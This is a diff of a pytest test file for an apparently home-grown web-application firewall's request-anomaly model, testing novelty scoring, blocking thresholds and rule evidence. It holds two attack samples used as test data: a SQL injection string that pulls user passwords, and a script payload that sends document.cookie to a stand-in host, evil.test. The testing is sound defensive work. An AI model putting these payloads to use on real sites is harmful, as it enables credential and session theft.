@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from dataclasses import replace
 from urllib.parse import quote
 
 import numpy as np
@@ -10,9 +11,19 @@ from cnaf.learner.fit import FitResult
 from cnaf.models.exchange import Request
 from cnaf.models.features import COLUMNS
 from cnaf.models.fields import Field, Location
-from cnaf.models.kernels import MEASURES
+from cnaf.models.kernels import CHANNELS, MEASURES, NOVELTIES, fuse
 from cnaf.models.parsing import RequestParser
-from cnaf.models.request_model import VALUE_CAP, Score, Scorer, is_learned, without_host
+from cnaf.models.request_model import (
+    FIRM_BITS,
+    VALUE_CAP,
+    RequestModel,
+    Score,
+    Scorer,
+    is_learned,
+    without_host,
+)
+from cnaf.models.structure import News
+from cnaf.models.value_types import ValueType
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
@@ -22,11 +33,9 @@ INJECTION = "1' UNION SELECT user, password FROM users-- -"
 SCRIPT = "<script>fetch('//evil.test/'+document.cookie)</script>"
 
 
-def newness(found: Score) -> float:
-    """What structure adds to a score: the first three of its dense features."""
-    n = len(found.indices)
-    at = n * len(MEASURES) + n + COLUMNS.index("unseen-endpoint")
-    return float(found.out[at : at + 3].sum())
+def newness(found: Score) -> dict[str, float]:
+    """What is new about a request, in bits, where anything is."""
+    return {name: bits for name, bits in zip(NOVELTIES, found.news, strict=True) if bits}
 
 
 @pytest.fixture(scope="module")
@@ -124,29 +133,64 @@ class TestBenign:
         scores = np.array([score(scorer, e.request).score for e in shop_traffic(30, seed=9)])
         assert np.mean(scores >= fitted.model.calibration.threshold(0.02)) < 0.04
 
-    def test_an_unseen_endpoint_costs_what_newness_says(self, scorer: Scorer) -> None:
-        for made in (request(target="/never-seen"), request("DELETE", "/products/7")):
-            found = score(scorer, made)
-            assert found.endpoint is None
-            assert newness(found) > 1
-            assert found.score >= newness(found)
+    @pytest.mark.parametrize(
+        ("made", "new"),
+        [
+            (request(target="/never-seen"), {"path"}),
+            (request(target="/products/7/edit"), {"path"}),
+            (request(target="/orders"), {"path"}),
+            (request("DELETE", "/products/7"), {"method"}),
+            (request("POST", "/search"), {"method"}),
+            (request(target="/products?page=1"), {"composition"}),
+            (request(target="/products?sort=name&page=1"), {"composition"}),
+            (request(target="/products?page=1&sort=name&sort=price"), {"composition"}),
+            (request(target="/products/7?q=hat"), {"composition"}),
+            (request(target="/products?page=1&sort=price&debug=true"), {"composition", "name"}),
+            (request(target="/nowhere?debug=true"), {"path", "name"}),
+            (request("PUT", "/search?debug=true"), {"method", "name"}),
+            (request(target="/products/7"), set()),
+            (request(target="/search?q=hat"), set()),
+        ],
+    )  # fmt: skip
+    def test_what_is_new_is_told_in_bits_of_its_place(
+        self, scorer: Scorer, made: Request, new: set[str]
+    ) -> None:
+        found, model = score(scorer, made), scorer.model
+        told = newness(found)
+        assert set(told) == new
+        assert (found.endpoint is None) == bool(new & {"path", "method"})
+        route = made.target.decode().partition("?")[0]
+        expected = {
+            "path": model.tree.match(route).news,
+            "name": model.names.bits,
+            "composition": found.endpoint.news.bits if found.endpoint else 0.0,
+            "method": next(
+                (
+                    News(e.sessions, int(e.sessions == 1)).bits
+                    for e in model.endpoints
+                    if e.template == found.template
+                ),
+                0.0,
+            ),
+        }
+        assert told == {name: expected[name] for name in new}
+        # Its surprise stands in the dense features and, in sum, in the score's own channel.
+        columns = found.out[-len(COLUMNS) :][COLUMNS.index("new-path") :][: len(NOVELTIES)]
+        assert columns.tolist() == found.novelties.tolist()
+        assert [z > 0 for z in found.novelties.tolist()] == [bool(bits) for bits in found.news]
 
-    def test_a_known_endpoint_has_no_newness(self, scorer: Scorer) -> None:
-        found = score(scorer, request(target="/products/7"))
-        assert (found.endpoint is not None, newness(found)) == (True, 0.0)
-        assert found.template == "/products/{int}"
+    def test_lists_are_as_long_as_they_are(self, scorer: Scorer) -> None:
+        items = b",".join([b'{"sku":"hat-123","count":1}'] * 9)
+        body = b'{"items":[' + items + b'],"gift":true}'
+        assert newness(score(scorer, request("POST", "/api/cart", body, b"application/json"))) == {}
 
     def test_an_unseen_field_is_named(self, scorer: Scorer) -> None:
         parsed = RequestParser().parse(request(target="/products?page=1&sort=price&debug=true"))
         found = scorer.score(parsed)
         assert [parsed.fields[i].label for i in found.unseen] == ["query:debug"]
-        assert newness(found) > 0
 
-    def test_a_known_field_at_another_endpoint_is_new_there(self, scorer: Scorer) -> None:
-        here = score(scorer, request(target="/search?q=hat"))
-        there = score(scorer, request(target="/products/7?q=hat"))
-        assert (newness(here), there.unseen) == (0.0, [])
-        assert newness(there) > 0
+    def test_a_known_field_at_another_endpoint_has_no_new_name(self, scorer: Scorer) -> None:
+        assert score(scorer, request(target="/products/7?q=hat")).unseen == []
 
 
 class TestContract:
@@ -199,14 +243,15 @@ class TestContract:
         ],
     )
     def test_what_describes_the_client_is_not_learned(self, field: Field, learned: bool) -> None:
-        assert is_learned(field) is learned
+        assert is_learned(field.location, field.name) is learned
 
     def test_a_model_holds_no_value_of_its_traffic(self, fitted: FitResult) -> None:
         model = fitted.model
         held = b"".join(
             array.tobytes()
             for array in (model.table.tags, model.table.bits, model.escapes, model.seen,
-                          model.usual, model.scales, model.calibration.scores)
+                          model.longest, model.shortest, model.scales, model.tail_points,
+                          model.calibration.scores, model.blocking.plain.scores)
         ) + repr((model.profiles, model.endpoints, model.tree.templates())).encode()  # fmt: skip
         parser = RequestParser()
         for exchange in shop_traffic():
@@ -216,26 +261,126 @@ class TestContract:
 
 
 class TestBlockable:
-    """What may block leaves out that an endpoint is new; what is in its values stays."""
+    """What may block leaves out news that the image shows all the time; values stay."""
 
-    def blockable(self, scorer: Scorer, made: Request) -> tuple[float, float]:
+    def blockable(self, scorer: Scorer, made: Request) -> tuple[float, Score]:
         parsed = RequestParser().parse(made)
         found = scorer.score(parsed)
-        return scorer.blockable(parsed, found), found.score
+        return scorer.blockable(parsed, found), found
 
     def test_a_known_endpoint_keeps_its_score(self, scorer: Scorer) -> None:
         part, whole = self.blockable(scorer, request(target="/search?q=" + quote(INJECTION)))
-        assert part == whole
+        assert part == whole.score
 
+    @pytest.mark.parametrize(
+        ("page", "rate"), [("/contact", 0.05), ("/help/returns", 0.05), ("/about-us/story", 0.01)]
+    )
     def test_a_forgotten_page_is_ordinary_and_an_attack_on_it_is_not(
-        self, fitted: FitResult, scorer: Scorer
+        self, fitted: FitResult, scorer: Scorer, page: str, rate: float
     ) -> None:
-        threshold = fitted.model.blocking.threshold(0.02)
-        page, whole = self.blockable(scorer, request(target="/about-us/our-story"))
-        assert page < threshold
-        assert page < whole
-        attacked = request(target="/about-us/our-story?q=" + quote(INJECTION))
+        threshold, _ = fitted.model.blocking.thresholds(rate)
+        part, whole = self.blockable(scorer, request(target=page))
+        assert part < threshold
+        assert part < whole.score
+        attacked = request(target=f"{page}?q={quote(INJECTION)}")
         assert self.blockable(scorer, attacked)[0] >= threshold
+
+    @pytest.mark.parametrize(
+        "made",
+        [
+            request(target="/products?page=1"),
+            request("DELETE", "/products/7"),
+            request(target="/search?q=hat&debug=1"),
+        ],
+    )
+    def test_news_that_is_not_firm_is_left_out(self, scorer: Scorer, made: Request) -> None:
+        part, found = self.blockable(scorer, made)
+        assert 0 < max(found.news) < FIRM_BITS
+        assert part < found.score
+        model = scorer.model
+        expected = fuse(
+            found.values, np.zeros(len(NOVELTIES), np.float32), model.tail_points,
+            model.tail_slopes, found.forest, np.empty(len(CHANNELS)),
+        )  # fmt: skip
+        # A new endpoint loses the words of its path, too; none of these is on a new path.
+        assert part == pytest.approx(float(expected), abs=0.3)
+        assert part <= float(expected)
+
+    def test_firm_news_stays(self, fitted: FitResult) -> None:
+        """In an image that shows next to nothing new, what is new is an attack's likeliest sign."""
+        settled = replace(fitted.model, names=News(4_000, 1))
+        part, found = self.blockable(Scorer(settled), request(target="/search?q=hat&debug=1"))
+        assert found.news[3] >= FIRM_BITS > found.news[2] > 0
+        model = settled
+        only_name = np.where(np.arange(len(NOVELTIES)) == 3, found.novelties, 0).astype(np.float32)
+        assert part == float(
+            fuse(found.values, only_name, model.tail_points, model.tail_slopes, found.forest,
+                 np.empty(len(CHANNELS)))
+        )  # fmt: skip
+
+    def test_of_a_forgotten_path_only_syntax_counts(self, scorer: Scorer) -> None:
+        words, found = self.blockable(scorer, request(target="/zqxjkv-wqzxv/jqxzk-vvwq"))
+        syntax, _ = self.blockable(scorer, request(target="/<zq>$(x)/'or'1"))
+        assert found.news[0] < FIRM_BITS
+        assert syntax > words + 1
+
+
+class TestSpeaksAgainst:
+    """What a medium rule's match means in a field: by what benign values of it are known."""
+
+    RULE = "cnaf-test-1"
+
+    def say(self, model: RequestModel, made: Request, label: str) -> bool | None:
+        parsed, scorer = RequestParser().parse(made), Scorer(model)
+        field = next(f for f in parsed.fields if f.label == label)
+        return scorer.speaks_against(self.RULE, field, scorer.score(parsed))
+
+    def changed(self, model: RequestModel, name: str, **entries: object) -> RequestModel:
+        """The model with other entries of one profile."""
+        profiles = tuple(
+            replace(p, **entries) if p.name == name else p  # type: ignore[arg-type]
+            for p in model.profiles
+        )
+        return replace(model, profiles=profiles)
+
+    def test_a_plain_field_that_never_set_it_off(self, fitted: FitResult) -> None:
+        assert self.say(fitted.model, request(target="/search?q=hat"), "query:q") is True
+
+    def test_a_field_whose_benign_values_set_it_off(self, fitted: FitResult) -> None:
+        marked = self.changed(fitted.model, "q", marks=frozenset((self.RULE,)))
+        assert self.say(marked, request(target="/search?q=hat"), "query:q") is False
+        other = self.changed(fitted.model, "q", marks=frozenset(("cnaf-test-2",)))
+        assert self.say(other, request(target="/search?q=hat"), "query:q") is True
+
+    @pytest.mark.parametrize(("sessions", "said"), [(0, None), (2, None), (3, True), (40, True)])
+    def test_a_field_of_few_sessions(
+        self, fitted: FitResult, sessions: int, said: bool | None
+    ) -> None:
+        thin = self.changed(fitted.model, "q", sessions=sessions)
+        assert self.say(thin, request(target="/search?q=hat"), "query:q") is said
+
+    @pytest.mark.parametrize("kind", ["MARKUP", "CODE", "BINARY"])
+    @pytest.mark.parametrize(("sessions", "said"), [(3, None), (19, None), (20, True)])
+    def test_a_field_of_code_by_design_must_stay_silent_longer(
+        self, fitted: FitResult, kind: str, sessions: int, said: bool | None
+    ) -> None:
+        model = self.changed(fitted.model, "q", sessions=sessions, kind=ValueType[kind])
+        assert self.say(model, request(target="/search?q=hat"), "query:q") is said
+
+    @pytest.mark.parametrize(
+        ("made", "label"),
+        [
+            (request(target="/search?debug=1"), "query:debug"),
+            (request(target="/nowhere?q=hat"), "query:q"),
+            (request("PUT", "/search?q=hat"), "query:q"),
+        ],
+    )
+    @pytest.mark.parametrize(("names", "said"), [(News(62, 1), True), (News(61, 1), None)])
+    def test_what_is_new_to_an_image_that_is_known_well(
+        self, fitted: FitResult, made: Request, label: str, names: News, said: bool | None
+    ) -> None:
+        # 5 bits: one sighting of a name in 32 was of a new one.
+        assert self.say(replace(fitted.model, names=names), made, label) is said
 
 
 class TestOthers:
